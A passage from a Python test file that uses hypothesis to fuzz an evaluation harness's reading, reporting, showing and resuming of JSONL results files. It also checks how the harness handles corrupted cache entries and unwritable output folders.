    FUZZED[name] = FUZZED.get(name, 0) + 1


def report_counts(name: str, at_least: int) -> None:
    print(f"\nfuzzed {name}: {FUZZED.get(name, 0)} documents")
    assert FUZZED.get(name, 0) >= max(1, int(at_least * FUZZ_SCALE) // 2)


def test_fuzzed_results_files_read_cleanly() -> None:
    import tempfile

    from hypothesis import given

    @fuzz_settings(1200)
    @given(results_documents(max_lines=8))
    def read(document: bytes) -> None:
        counted("read")
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "r.jsonl"
            path.write_bytes(document)
            loaded = read_results([path])
            for record in loaded.records:  # what is accepted validates again and serialises
                json.dumps(record.model_dump(mode="json", by_alias=True))
            assert all(problem.startswith(f"{path}:") for problem in loaded.problems)

    read()
    report_counts("read", 1200)


def test_fuzzed_results_files_through_harness_report() -> None:
    import tempfile

    from hypothesis import given

    @fuzz_settings(40)
    @given(results_documents(max_lines=25))
    def report(document: bytes) -> None:
        counted("report")
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "r.jsonl"
            path.write_bytes(document)
            db, site = Path(folder) / "h.sqlite", Path(folder) / "site"
            result = invoke("report", path, "--db", db, "--out", site)
            assert result.exit_code in (0, 2), result.output
            readable = read_results([path]).records
            assert result.exit_code == (0 if readable else 2), result.output
            if readable:
                assert (site / "index.html").exists() and (site / "summary.md").exists()

    report()
    report_counts("report", 40)


def old_read(record: dict[str, Any]) -> dict[str, Any] | None:
    """What the old reader let into the history: the record model's loose check, nothing more."""
    from pydantic import ValidationError

    from harness.report.records import canonical

    try:
        dumped = Record.model_validate(record).model_dump(mode="json", by_alias=True)
        canonical(dumped).encode()
    except (ValidationError, ValueError):
        return None
    return dumped


def test_fuzzed_records_in_a_history_never_stop_it_rendering() -> None:
    """What an older harness stored without validating: each run still renders, bad records left out."""
    import tempfile

    from hypothesis import given
    from hypothesis import strategies as st

    @fuzz_settings(25)
    @given(st.lists(st.one_of(mutated_records(), st.sampled_from(FUZZ_SEEDS)), min_size=1, max_size=20))
    def history(records: list[dict[str, Any]]) -> None:
        counted("history")
        stored_by_old_code = [record for record in map(old_read, records) if record is not None]
        if not stored_by_old_code:
            return
        with tempfile.TemporaryDirectory() as folder:
            db, site = Path(folder) / "h.sqlite", Path(folder) / "site"
            with History(db) as stored:
                stored.ingest(stored_by_old_code, ["old.jsonl"], [])
            result = invoke("report", "--db", db, "--out", site)
            assert result.exit_code == 0, result.output
            with History(db) as stored:
                valid = {record["id"] for record in stored.records(1)}
                assert valid <= {record["id"] for record in stored_by_old_code}

    history()
    report_counts("history", 25)


def test_fuzzed_results_files_through_harness_show() -> None:
    import tempfile

    from hypothesis import given

    @fuzz_settings(350)
    @given(results_documents(max_lines=15))
    def show(document: bytes) -> None:
        counted("show")
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "r.jsonl"
            path.write_bytes(document)
            result = invoke("show", FUZZ_ID, KINDS, "--results", path)
            assert result.exit_code == 0, result.output

    show()
    report_counts("show", 350)


def test_fuzzed_results_files_through_harness_run_resume() -> None:
    """--resume over a hostile file that records the one selected variant: nothing runs, nothing
    complete is lost, a torn tail is cut, and the command exits cleanly."""
    import tempfile

    from hypothesis import given
    from hypothesis import strategies as st

    recorded = json.dumps(next(r for r in FUZZ_SEEDS if r["id"] == FUZZ_ID)).encode()

    @fuzz_settings(400)
    @given(results_documents(max_lines=15), st.integers(0, 15))
    def resume(document: bytes, position: int) -> None:
        counted("resume")
        lines = document.split(b"\n")
        lines.insert(min(position, len(lines) - 1), recorded)
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "r.jsonl"
            path.write_bytes(b"\n".join(lines))
            complete = [line for line in path.read_bytes().split(b"\n")[:-1] if line.strip()]
            result = invoke("run", KINDS, "--id", FUZZ_ID, "--out", path, "--resume")
            assert result.exit_code == 0, result.output
            after = path.read_bytes()
            assert after == b"" or after.endswith(b"\n")
            assert [line for line in after.split(b"\n") if line.strip()][: len(complete)] == complete

    resume()
    report_counts("resume", 400)


def test_a_damaged_index_cache_entry_is_asked_for_again(package_index: Path, tmp_path: Path) -> None:
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text(MATRIX_HEAD)
    assert invoke("matrix", "--file", matrix).exit_code == 0
    for entry in (tmp_path / "reports" / ".cache" / "index").glob("*.json"):
        entry.write_text('{"sources": ' + "[" * 5000)
    result = invoke("matrix", "--file", matrix)
    assert result.exit_code == 0, result.output


def test_an_unwritable_report_folder_is_one_clear_error(tmp_path: Path, seeds: list[dict[str, Any]]) -> None:
    results = tmp_path / "results.jsonl"
    results.write_bytes(lines_of(seeds[:3]))
    blocker = tmp_path / "file.txt"
    blocker.write_text("")
    result = invoke("report", results, "--db", tmp_path / "h.sqlite", "--out", blocker / "site")
    assert result.exit_code == 2, result.output
    assert "cannot write the report" in result.output and "Traceback" not in result.output
    rendered = invoke("report", "--db", tmp_path / "h.sqlite", "--out", tmp_path / "site")
    assert rendered.exit_code == 0  # the run was kept: rendered again
